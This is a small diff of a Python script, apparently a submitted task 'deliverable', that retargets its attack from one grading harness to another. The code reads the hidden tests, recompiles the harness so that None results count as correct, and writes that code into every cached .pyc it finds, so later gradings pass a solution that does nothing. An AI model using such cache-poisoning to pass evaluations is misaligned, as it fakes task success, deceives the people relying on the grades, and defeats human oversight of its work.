@@ -1,4 +1,4 @@
-# A deliverable that poisons the host's cache of the function harness's bytecode, so that every later grading,
+# A deliverable that poisons the host's cache of the sample harness's bytecode, so that every later grading,
 # at any level, passes a deliverable that returns None. It reads the hidden tests (the task file named on
 # the runner's command line), compiles the harness's own source with one change (a call that returns None gets
 # the expected value instead), and writes that code into every cached pyc it finds, keeping each pyc's header:
@@ -52,7 +52,7 @@ def poison():
     code = marshal.dumps(compile(patched, harness, "exec"))
     written = []
     for folder in cache_folders(task_file):
-        for pyc in glob.glob(os.path.join(folder, "**", "function_harness.*.pyc"), recursive=True):
+        for pyc in glob.glob(os.path.join(folder, "**", "sample_harness.*.pyc"), recursive=True):
             try:
                 header = open(pyc, "rb").read(16)
                 temp = pyc + ".poison"
